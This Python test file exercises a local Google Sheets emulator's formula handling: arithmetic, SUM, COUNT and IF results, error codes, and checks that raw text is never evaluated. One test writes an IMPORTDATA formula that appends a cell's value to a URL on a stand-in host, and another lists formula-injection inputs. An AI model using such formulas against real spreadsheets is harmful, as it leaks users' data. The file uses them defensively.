"""Formulas of the small subset are computed; any other yields an explicit error, never a guess."""

from typing import Any

import pytest

from tests.local_google.district import District
from tests.local_google.workbooks import FORMULA, TYPED_IN, batch, cells, people


@pytest.fixture
def sheet(district: District) -> Any:
    sheet = people(district).create("Week").sheet1
    sheet.update([[1, 2, "x"], [3, None, True]], "A1")
    return sheet


def shown(sheet: Any, formula: str) -> str:
    sheet.update([[formula]], "F9", value_input_option=TYPED_IN)
    found: str = sheet.acell("F9").value
    return found


@pytest.mark.parametrize(
    ("formula", "text"),
    [
        ("=A1+B1*2", "5"),
        ("=(A1+B1)*2", "6"),
        ("=-A2^1", "#ERROR!"),
        ("=A1/B2", "#DIV/0!"),
        ("=SUM(A1:B2)", "6"),
        ("=SUM(A:A)", "4"),
        ("=COUNTA(A1:C2)", "5"),
        ("=COUNT(A1:C2)", "3"),
        ('=A1&"-"&C1', "1-x"),
        ('=IF(A2>=3,"held","open")', "held"),
        ("=Sheet1!B1", "2"),
        ("=C1+1", "#VALUE!"),
        ("=IMPORTDATA(A1)", "#NAME?"),
        ("=TODAY()", "#NAME?"),
        ("=Nowhere", "#NAME?"),
        ("=Nowhere!A1", "#REF!"),
        ("=(1", "#ERROR!"),
        ("=F9", "#REF!"),
        ("+1 555 0100", "#ERROR!"),
    ],
)
@pytest.mark.proves("GS-38")
def test_a_formula_shows(sheet: Any, formula: str, text: str) -> None:
    assert shown(sheet, formula) == text


@pytest.mark.proves("GS-38", "S5")
def test_an_error_can_be_told_from_a_text(sheet: Any) -> None:
    sheet.update([['=IMPORTDATA("http://x/?"&A2)', "#NAME?"]], "A5", value_input_option=TYPED_IN)

    ((error, text),) = cells(sheet.spreadsheet, "Sheet1!A5:B5")

    assert error["effectiveValue"]["errorValue"]["type"] == "NAME"
    assert error["formattedValue"] == text["formattedValue"] == "#NAME?"
    assert text["effectiveValue"] == {"stringValue": "#NAME?"}


@pytest.mark.proves("S10")
@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "\tx", "'x", "=IMPORTXML(1)"])
def test_a_raw_text_is_never_a_formula(sheet: Any, text: str) -> None:
    sheet.update([[text]], "A5")
    value = {"userEnteredValue": {"stringValue": text}}
    start = {"rowIndex": 4, "columnIndex": 1}
    rows = [{"values": [value]}]
    batch(
        sheet.spreadsheet,
        {"updateCells": {"start": start, "rows": rows, "fields": "userEnteredValue"}},
    )

    ((raw, direct),) = cells(sheet.spreadsheet, "Sheet1!A5:B5")

    assert raw["userEnteredValue"] == direct["userEnteredValue"] == {"stringValue": text}
    assert raw["formattedValue"] == text


def test_a_repeated_formula_is_filled_down_and_sorted_rows_keep_theirs(sheet: Any) -> None:
    cell = {"userEnteredValue": {"formulaValue": "=A1*$A$1"}}
    area = {"endRowIndex": 2, "startColumnIndex": 3, "endColumnIndex": 4}
    batch(
        sheet.spreadsheet,
        {"repeatCell": {"range": area, "cell": cell, "fields": "userEnteredValue"}},
    )
    assert sheet.get("D1:D2", value_render_option=FORMULA) == [["=A1*$A$1"], ["=A2*$A$1"]]
    assert sheet.get("D1:D2") == [["1"], ["3"]]

    sheet.sort((1, "des"), range="A1:D2")

    assert sheet.get("A1:A2") == [["3"], ["1"]]
    assert sheet.get("D1:D2", value_render_option=FORMULA) == [["=A1*$A$1"], ["=A2*$A$1"]]
